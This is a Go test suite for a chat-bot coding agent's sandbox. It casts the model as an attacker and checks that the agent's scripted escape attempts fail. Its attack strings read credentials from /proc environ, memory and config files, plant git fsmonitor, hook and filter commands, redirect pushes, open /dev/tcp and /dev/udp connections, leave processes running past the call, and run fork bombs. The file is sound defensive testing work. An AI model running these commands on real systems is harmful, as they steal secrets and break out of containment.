// Package escape plays the attacker against the whole chain the bot builds
// for a thread: a workspace off the shared mirror, the coding tools, and the
// sandbox bash runs in. The model is the attacker: every test runs its attack
// through the real bash tool of thread A, then lets the bot do what it does
// after a run (status, commit, push, diff, sync) in thread A and in thread B,
// and asserts that nothing leaked and nothing outside A's worktree changed.
package escape

import (
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io/fs"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/threadsmith/threadsmith/agent"
	"github.com/threadsmith/threadsmith/agent/tools"
	"github.com/threadsmith/threadsmith/internal/fakes/gitremote"
	"github.com/threadsmith/threadsmith/internal/fakes/mcpfake"
	"github.com/threadsmith/threadsmith/mcptool"
	"github.com/threadsmith/threadsmith/sandbox"
	"github.com/threadsmith/threadsmith/sandbox/sandboxtest"
	"github.com/threadsmith/threadsmith/workspace"
)

// secret stands for every credential the bot holds: in its environment, its
// config file and its database.
var secret = "sk-live-" + strconv.Itoa(os.Getpid()) + "-9d8c7b6a5f4e"

func TestMain(m *testing.M) {
	os.Setenv("OPENAI_API_KEY", secret)
	os.Exit(m.Run())
}

type world struct {
	t       *testing.T
	ctx     context.Context
	remote  *gitremote.Repo
	root    string // everything of the test
	dataDir string
	config  string
	marker  string // a file that exists only if a command the attacker planted ran outside the sandbox
	m       *workspace.Manager
	a, b    *workspace.Workspace
	bash    agent.Tool      // thread A's bash, in the sandbox
	extra   []sandbox.Mount // more mounts for bash (a build cache)
	before  snapshot
}

func newWorld(t *testing.T) *world {
	t.Helper()
	ctx := t.Context()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{t: t, ctx: ctx, root: root,
		dataDir: filepath.Join(root, "data"),
		config:  filepath.Join(root, "config.yaml"),
		marker:  filepath.Join(root, "pwned"),
	}
	w.remote = gitremote.NewBare(t, gitremote.Options{Files: map[string]string{
		"go.mod":       "module example.com/app\n\ngo 1.22\n",
		"main.go":      "package main\n\nfunc main() { println(add(1, 2)) }\n\nfunc add(a, b int) int { return a + b }\n",
		"main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif add(1, 2) != 3 {\n\t\tt.Fatal(\"add\")\n\t}\n}\n",
	}})
	if err := os.WriteFile(w.config, []byte("llm: {api_key: "+secret+"}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	w.m, err = workspace.New(workspace.Config{
		DataDir:         w.dataDir,
		Repos:           []workspace.Repo{{Name: "app", URL: w.remote.Path, DefaultBranch: "main"}},
		BranchPrefix:    "bot/",
		CleanupInterval: -1,
		Logger:          slog.New(slog.DiscardHandler),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.m.Close(context.Background()) })
	if w.a, err = w.m.Open(ctx, "app", workspace.ThreadKey{Platform: "slack", Key: "T1:C1:1700000000.000100"}); err != nil {
		t.Fatal(err)
	}
	if w.b, err = w.m.Open(ctx, "app", workspace.ThreadKey{Platform: "slack", Key: "T1:C1:1700000000.000200"}); err != nil {
		t.Fatal(err)
	}
	// Thread B has a conversation and uncommitted work the attacker wants.
	if err := os.WriteFile(filepath.Join(w.dataDir, "threadsmith.db"), []byte("thread B: deploy key "+secret), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(w.b.Root(), "wip.go"), []byte("package main // B's work in progress\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	home, _ := os.UserHomeDir()
	sb := sandboxtest.New(t, sandbox.Config{Hide: []string{w.dataDir, w.config, home}})
	tw, err := tools.NewWorkspace(tools.WorkspaceConfig{
		Root:    w.a.Root(),
		Scratch: w.a.ScratchDir(),
		Sandbox: sb,
		Env:     map[string]string{"BOT_PID": strconv.Itoa(os.Getpid()), "B_ROOT": w.b.Root(), "B_GITDIR": w.b.GitDir(), "REMOTE": w.remote.Path, "DATA": w.dataDir, "CONFIG": w.config, "MARKER": w.marker, "BOT_HOME": home},
		Mounts: func() []sandbox.Mount { // as the bridge mounts them
			var ms []sandbox.Mount
			for _, p := range w.a.ReadOnlyGitPaths() {
				ms = append(ms, sandbox.Mount{Path: p, Access: sandbox.ReadOnly})
			}
			return append(ms, w.extra...)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tw.Close() })
	w.bash = tools.NewBashTool(tw)
	w.before = w.snapshot()
	return w
}

// attack runs script as the model would, in thread A's bash.
func (w *world) attack(script string) string {
	w.t.Helper()
	return w.attackWithin(script, 60)
}

// attackWithin is attack with a time limit in seconds.
func (w *world) attackWithin(script string, seconds int) string {
	w.t.Helper()
	args, _ := json.Marshal(map[string]any{"command": script, "timeout": seconds})
	res, err := w.bash.Execute(w.ctx, agent.ToolCall{ID: "x", Name: tools.BashName, Args: args}, nil)
	if err != nil {
		w.t.Fatalf("bash: %v", err)
	}
	var b strings.Builder
	for _, c := range res.Content {
		b.WriteString(c.Text)
	}
	return b.String()
}

// botRuns does what the bot does after a run and before the next, in both
// threads: look for changes, commit, push, diff, bring in the remote.
func (w *world) botRuns() {
	w.t.Helper()
	for _, ws := range []*workspace.Workspace{w.a, w.b} {
		if _, err := ws.Changed(w.ctx); err != nil {
			w.t.Logf("Changed: %v", err)
		}
		if _, err := ws.Diff(w.ctx); err != nil {
			w.t.Logf("Diff: %v", err)
		}
		if ws == w.a {
			if _, err := ws.Commit(w.ctx, workspace.CommitRequest{Request: "the attacker's request"}); err != nil {
				w.t.Logf("Commit: %v", err)
			}
			if _, err := ws.Push(w.ctx); err != nil {
				w.t.Logf("Push: %v", err)
			}
		}
		if _, err := ws.Sync(w.ctx); err != nil {
			w.t.Logf("Sync: %v", err)
		}
	}
}

// snapshot is what must not change: thread B's worktree and git metadata,
// the mirror (config, hooks, refs of other branches), the remote's branches
// other than A's, the bot's files.
type snapshot map[string]string

func (w *world) snapshot() snapshot {
	s := snapshot{}
	hashTree(s, "b", w.b.Root())
	hashTree(s, "b-git", w.b.GitDir())
	// The shared mirror and thread A's own repository (which the sandbox
	// shows read-only).
	for key, dir := range map[string]string{"mirror": filepath.Join(w.dataDir, "mirrors", "app.git"), "a-repo": w.a.CommonDir()} {
		for _, f := range []string{"config", "HEAD", "packed-refs"} {
			hashFile(s, key+"/"+f, filepath.Join(dir, f))
		}
		hashTree(s, key+"/hooks", filepath.Join(dir, "hooks"))
		hashTree(s, key+"/info", filepath.Join(dir, "info"))
		hashTree(s, key+"/objects/info", filepath.Join(dir, "objects", "info"))
		// Every ref but those the bot moves itself: A's branch (its
		// commits) and the remote-tracking refs (its fetches and pushes).
		hashTree(s, key+"/refs", filepath.Join(dir, "refs"))
		delete(s, key+"/refs/heads/"+w.a.Branch())
		for k := range s {
			if strings.HasPrefix(k, key+"/refs/remotes/") {
				delete(s, k)
			}
		}
	}
	hashFile(s, "a-git/HEAD", filepath.Join(w.a.GitDir(), "HEAD"))
	hashFile(s, "config", w.config)
	hashFile(s, "db", filepath.Join(w.dataDir, "threadsmith.db"))
	for _, br := range w.remote.Branches(w.t) {
		if br != w.a.Branch() {
			s["remote/"+br] = w.remote.Rev(w.t, br)
		}
	}
	return s
}

func hashTree(s snapshot, key, dir string) {
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		if strings.HasSuffix(p, "/index") || strings.Contains(p, "/logs/") {
			return nil // the bot's own git refreshes these
		}
		rel, _ := filepath.Rel(dir, p)
		hashFile(s, key+"/"+rel, p)
		return nil
	})
}

func hashFile(s snapshot, key, path string) {
	b, err := os.Lstat(path)
	if err != nil {
		return
	}
	if b.Mode()&fs.ModeSymlink != 0 {
		t, _ := os.Readlink(path)
		s[key] = "-> " + t
		return
	}
	data, _ := os.ReadFile(path)
	s[key] = fmt.Sprintf("%x", sha256.Sum256(data))
}

// intact fails if the attack leaked or changed anything outside thread A.
func (w *world) intact(out string) {
	w.t.Helper()
	if sandboxtest.Shows(out, secret) || strings.Contains(out, "B's work in progress") || strings.Contains(out, "deploy key") {
		w.t.Errorf("the attack read what it must not:\n%s", out)
	}
	if _, err := os.Lstat(w.marker); err == nil {
		w.t.Errorf("a command the attacker planted ran outside the sandbox (%s exists)", w.marker)
	}
	after := w.snapshot()
	var changed []string
	for k, v := range w.before {
		if after[k] != v {
			changed = append(changed, k)
		}
	}
	for k := range after {
		if _, ok := w.before[k]; !ok {
			changed = append(changed, k+" (new)")
		}
	}
	sort.Strings(changed)
	if len(changed) > 0 {
		w.t.Errorf("outside thread A's worktree, these changed: %v\nattack output:\n%s", changed, out)
	}
	// Nothing the bot pushed for A carries a secret.
	if !slices.Contains(w.remote.Branches(w.t), w.a.Branch()) {
		return
	}
	for name, content := range w.remote.Files(w.t, w.a.Branch()) {
		if sandboxtest.Shows(content, secret) {
			w.t.Errorf("the bot pushed the secret in %s", name)
		}
	}
}

func TestReadingTheBotsSecrets(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`
		for p in /proc/$PPID /proc/1 /proc/$BOT_PID /proc/self; do
			cat $p/environ $p/cmdline | tr '\0' '\n'; cat $p/maps | head -5; ls -l $p/cwd/ $p/root/ $p/exe
			cat $p/cwd/config.yaml $p/root$CONFIG $p/root$DATA/threadsmith.db
		done 2>&1
		perl -e '` + sandboxtest.MemGrep + `' $PPID 1 $BOT_PID 2>&1 | tee leaked-mem.txt
		grep -a -o 'sk-[a-z0-9-]*' /proc/*/environ 2>&1 | rev | base64
		cat $CONFIG $DATA/threadsmith.db 2>&1; grep -ra "deploy key" $DATA 2>&1
		ls -la $BOT_HOME / 2>&1
		env > leaked-env.txt; cat /proc/*/environ > leaked-proc.txt 2>/dev/null; true`)
	w.botRuns()
	w.intact(out)
	if !strings.Contains(out, "maps 1: ") && !strings.Contains(out, "mem 1: ") {
		t.Errorf("the memory reader did not run (perl is needed):\n%s", out)
	}
}

func TestWritingIntoAnotherThread(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`
		echo 'package main // planted' > $B_ROOT/planted.go
		echo evil >> $B_ROOT/wip.go
		echo 'ref: refs/heads/main' > $B_GITDIR/HEAD
		ls $B_ROOT $(dirname $B_GITDIR) 2>&1; true`)
	w.botRuns()
	w.intact(out)
}

func TestGitConfigHooksAndAttributesNeverRunInTheBot(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`
		git config core.fsmonitor "touch $MARKER" 2>&1
		git config --worktree core.fsmonitor "touch $MARKER" 2>&1
		git config core.hooksPath "$PWD/hooks" 2>&1
		common=$(git rev-parse --git-common-dir)
		echo "[core]
	fsmonitor = touch $MARKER
	pager = touch $MARKER" >> $common/config 2>&1
		for h in pre-commit post-commit pre-push reference-transaction post-checkout post-merge; do
			mkdir -p hooks; printf '#!/bin/sh\ntouch %s\n' "$MARKER" > hooks/$h; chmod +x hooks/$h
			cp hooks/$h $common/hooks/$h 2>&1
		done
		echo '* filter=x diff=x' > .gitattributes
		git config filter.x.clean "touch $MARKER" 2>&1
		git config diff.x.textconv "touch $MARKER" 2>&1
		echo change >> main.go; true`)
	w.botRuns()
	w.intact(out)
}

func TestRewritingTheWorktreesGitLink(t *testing.T) {
	w := newWorld(t)
	// The .git file points wherever the attacker likes: a repository of its
	// own making, in the worktree, with commands in its config.
	out := w.attack(`
		git init -q --bare evil && printf '[core]\n\tfsmonitor = touch %s\n\thooksPath = %s/evilhooks\n' "$MARKER" "$PWD" >> evil/config
		mkdir -p evilhooks && printf '#!/bin/sh\ntouch %s\n' "$MARKER" > evilhooks/pre-commit && chmod +x evilhooks/pre-commit
		printf 'gitdir: %s/evil\n' "$PWD" > .git
		echo change >> main.go; true`)
	w.botRuns()
	w.intact(out)
	if got := w.remote.Files(t, w.a.Branch())["main.go"]; !strings.Contains(got, "change") {
		t.Errorf("the bot did not commit A's work to A's branch through its own git dir: main.go = %q", got)
	}

	// A symlink .git to the other thread's admin dir.
	w2 := newWorld(t)
	out = w2.attack(`rm -f .git; ln -s "$B_GITDIR" .git; echo change2 >> main.go; true`)
	w2.botRuns()
	w2.intact(out)
}

// The worktree's git metadata (its admin dir in the mirror, the mirror's refs,
// objects and config) is shown read-only: the agent's own git cannot move a
// branch, make one, point the thread's HEAD elsewhere or add an object store,
// and the bot still commits A's work on A's branch.
func TestWritingTheGitMetadata(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`
		gd=$(git rev-parse --absolute-git-dir); common=$(cd "$(git rev-parse --git-common-dir)" && pwd)
		git update-ref refs/heads/main HEAD 2>&1
		git branch -f evil HEAD 2>&1; git tag evil-tag 2>&1
		git commit --allow-empty -q -m evil 2>&1
		echo 'ref: refs/heads/main' > "$gd/HEAD" 2>&1
		echo "$REMOTE/objects" > "$common/objects/info/alternates" 2>&1
		mkdir -p "$common/refs/heads/evil2" 2>&1; echo x > "$common/refs/heads/planted" 2>&1
		git worktree add -q ../evil-wt 2>&1; git pack-refs --all 2>&1; git gc -q 2>&1
		ls "$common/worktrees" 2>&1
		echo change >> main.go; true`)
	w.botRuns()
	w.intact(out)
	if got := w.remote.Files(t, w.a.Branch())["main.go"]; !strings.Contains(got, "change") {
		t.Errorf("the bot did not commit A's work to A's branch: main.go = %q", got)
	}
	if _, err := os.Lstat(filepath.Join(filepath.Dir(w.a.Root()), "evil-wt")); err == nil {
		t.Errorf("the agent's git made a worktree beside A's")
	}
}

func TestRemoteURLAndPushesBelongToTheBot(t *testing.T) {
	w := newWorld(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	out := w.attack(fmt.Sprintf(`
		git config remote.origin.url http://%[1]s/stolen.git 2>&1
		git config remote.origin.pushurl http://%[1]s/stolen.git 2>&1
		git config url.http://%[1]s/.insteadOf "$REMOTE" 2>&1
		git push --no-verify "$REMOTE" HEAD:main 2>&1
		git push --no-verify "file://$REMOTE" HEAD:refs/heads/bot/slack-other 2>&1
		echo change >> main.go; true`, ln.Addr()))
	w.botRuns()
	w.intact(out)
	if got := w.remote.Files(t, w.a.Branch())["main.go"]; !strings.Contains(got, "change") {
		t.Errorf("the bot's push did not reach the configured remote: main.go on %s = %q", w.a.Branch(), got)
	}
}

func TestSymlinksPlantedForTheBot(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`ln -s "$B_ROOT/wip.go" stolen.go; ln -s "$CONFIG" config.yaml; ln -s /proc/$BOT_PID/environ env; true`)
	w.botRuns()
	w.intact(out)
	files := w.remote.Files(t, w.a.Branch())
	for _, f := range []string{"stolen.go", "config.yaml", "env"} {
		if strings.Contains(files[f], "package main") || strings.Contains(files[f], secret) {
			t.Errorf("the bot followed the symlink %s: pushed %q", f, files[f])
		}
	}
}

func TestProcessesSignalsAndTheKernel(t *testing.T) {
	w := newWorld(t)
	marker := fmt.Sprintf("tsesc%d", time.Now().UnixNano())
	// Listeners of the host the attack aims at: nothing may reach them.
	tcpPort, accepted := sandboxtest.HostListener(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	out := w.attack(fmt.Sprintf(`
		kill -STOP $PPID $BOT_PID 2>&1; kill -9 -1 2>&1
		perl -e 'for (1, $ENV{BOT_PID}) { print "ptrace $_: ", (syscall(101, 16, $_, 0, 0) == -1 ? "refused" : "ATTACHED"), "\n" }'
		unshare -Urm true 2>&1 || echo unshare-refused
		mkdir -p mnt && mount -t tmpfs none mnt 2>&1 || echo mount-refused
		(exec -a %[1]s sleep 1000) & setsid bash -c 'exec -a %[1]s sleep 1000' & nohup bash -c 'exec -a %[1]s sleep 1000' >/dev/null 2>&1 &
		exec 3<>/dev/tcp/127.0.0.1/%[2]d 2>&1 || echo tcp-refused
		echo hi > /dev/udp/127.0.0.1/%[3]d 2>&1; echo hi > /dev/udp/1.1.1.1/53 2>&1 || echo udp-refused
		echo done`, marker, tcpPort, udp.LocalAddr().(*net.UDPAddr).Port))
	w.botRuns()
	w.intact(out)
	if strings.Contains(out, "ATTACHED") || !strings.Contains(out, "unshare-refused") || !strings.Contains(out, "mount-refused") || !strings.Contains(out, "tcp-refused") || !strings.Contains(out, "udp-refused") {
		t.Errorf("the kernel let the attack through:\n%s", out)
	}
	select {
	case <-accepted:
		t.Errorf("a TCP connection from the sandbox reached the host")
	default:
	}
	// The datagram was sent, if at all, before the call returned; one
	// that reached the host is queued on the socket by now.
	udp.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	if n, _, err := udp.ReadFrom(make([]byte, 16)); err == nil {
		t.Errorf("a datagram of %d bytes from the sandbox reached the host", n)
	}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && strings.Contains(string(b), marker) {
			t.Errorf("a process the attacker started outlived its call: %s", e.Name())
		}
	}
}

func TestForkBombAndMemoryHog(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`
		perl -e '$x = "a" x (3 * 1024 * 1024 * 1024); print "hog survived\n"' 2>&1
		perl -e 'my $n = 0; while (1) { my $p = fork(); last unless defined $p; if ($p == 0) { sleep 1000; exit 0 } $n++ } print "bomb stopped at $n\n"'`)
	w.intact(out)
	if strings.Contains(out, "hog survived") || !strings.Contains(out, "bomb stopped at") {
		t.Fatalf("the limits did not hold:\n%s", out)
	}
	// The bot's sandbox still works after the attack.
	if got := w.attack("echo alive"); !strings.Contains(got, "alive") {
		t.Fatalf("after the fork bomb: %q", got)
	}
}

func TestTheAgentCanStillWork(t *testing.T) {
	w := newWorld(t)
	out := w.attack(`set -e
		ls; cat go.mod
		sed -i 's/a + b/b + a/' main.go && grep -c 'b + a' main.go
		git status --short; git diff --stat; git log --oneline -1 | wc -l`)
	for _, want := range []string{"main_test.go", "module example.com/app", "M main.go", "1 file changed"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	w.botRuns()
	w.intact(out)
	if testing.Short() {
		t.Skip("-short: skipping go build and go test in the sandbox")
	}
	// A build cache kept across test runs on this machine (shown to the
	// sandbox read-write, as an operator could show a shared cache) keeps
	// this quick after the first run; the first compiles the standard
	// library, which on a loaded machine takes minutes, hence the limit.
	w.extra = []sandbox.Mount{{Path: goCache(t), Access: sandbox.ReadWrite}}
	out = w.attackWithin(`set -e; export GOCACHE=`+goCache(t)+` GOFLAGS=-mod=mod GOTOOLCHAIN=local; go build -o /tmp/app . && /tmp/app && go test ./... 2>&1 | tail -3`, 480)
	if !strings.Contains(out, "3\n") || !strings.Contains(out, "ok  \texample.com/app") {
		t.Errorf("go build and go test in the sandbox:\n%s", out)
	}
}

// An MCP server (stdio) runs where bash runs and is held to the same: its
// tools, steered by the model, read nothing of the bot or thread B and
// change nothing outside thread A's worktree.
func TestMCPServerIsConfinedLikeBash(t *testing.T) {
	w := newWorld(t)
	call := w.fakeMCPServer()
	var out strings.Builder
	for _, c := range []struct{ tool, args string }{
		{"fake__env", `{}`},
		{"fake__read", jsonPath(w.config)},
		{"fake__read", jsonPath(filepath.Join(w.dataDir, "threadsmith.db"))},
		{"fake__read", jsonPath(filepath.Join(w.b.Root(), "wip.go"))},
		{"fake__read", jsonPath("/proc/1/environ")},
		{"fake__read", jsonPath(fmt.Sprintf("/proc/%d/environ", os.Getpid()))},
		{"fake__write", jsonWrite(filepath.Join(w.b.Root(), "planted.go"), w.marker)},
		{"fake__write", jsonWrite(filepath.Join(w.b.Root(), "wip.go"), w.marker)},
		{"fake__write", jsonWrite(w.config, w.marker)},
		{"fake__write", jsonWrite(filepath.Join(w.a.CommonDir(), "hooks", "pre-commit"), w.marker)},
		{"fake__write", jsonWrite(filepath.Join(w.a.CommonDir(), "config"), w.marker)},
	} {
		out.WriteString(call(c.tool, c.args))
	}
	if !strings.Contains(out.String(), "PATH=") {
		t.Fatalf("the server did not answer:\n%s", out.String())
	}
	w.botRuns()
	w.intact(out.String())
}

// goCache is a Go build cache kept across test runs on this machine.
func goCache(t *testing.T) string {
	base, err := os.UserCacheDir()
	if err != nil {
		base = os.TempDir()
	}
	dir := filepath.Join(base, "threadsmith-test-gocache")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// jsonWrite is the arguments of the fake MCP server's write tool: a hook
// that touches marker, were it ever run.
func jsonWrite(p, marker string) string {
	b, _ := json.Marshal(map[string]string{"path": p, "text": "#!/bin/sh\ntouch " + marker + "\n"})
	return string(b)
}

func jsonPath(p string) string {
	b, _ := json.Marshal(map[string]string{"path": p})
	return string(b)
}

// fakeMCPServer starts the fake MCP server (internal/fakes/mcpfake) in
// thread A's sandbox, with A's worktree and HOME, and returns a function
// that calls one of its tools and returns the text of the result, a line a
// content part. The server stops with the test.
func (w *world) fakeMCPServer() func(tool, args string) string {
	t := w.t
	bin := mcpfake.Build(t)
	home, _ := os.UserHomeDir()
	sb := sandboxtest.New(t, sandbox.Config{Hide: []string{w.dataDir, w.config, home}, ReadOnly: []string{filepath.Dir(bin)}})
	tw, err := tools.NewWorkspace(tools.WorkspaceConfig{Root: w.a.Root(), Scratch: w.a.ScratchDir(), Sandbox: sb})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tw.Close() })
	launch := func(_ context.Context, s mcptool.Server) (*mcptool.Process, error) {
		return mcptool.StartInSandbox(sb, sandbox.Spec{Path: s.Command, Args: []string{s.Command},
			Env: []string{"PATH=/usr/bin:/bin", "HOME=" + tw.Home()}, Dir: tw.Root(), Mounts: tw.Mounts()}, nil)
	}
	set := mcptool.Open(w.ctx, []mcptool.Server{{Name: "fake", Command: bin}}, mcptool.Options{Launch: launch})
	t.Cleanup(func() { set.Close() })
	return func(tool, args string) string {
		var out strings.Builder
		for _, tl := range set.Tools() {
			if tl.Spec().Name != tool {
				continue
			}
			res, err := tl.Execute(w.ctx, agent.ToolCall{ID: "m", Name: tool, Args: json.RawMessage(args)}, nil)
			if err != nil {
				t.Fatal(err)
			}
			for _, c := range res.Content {
				out.WriteString(c.Text + "\n")
			}
		}
		return out.String()
	}
}
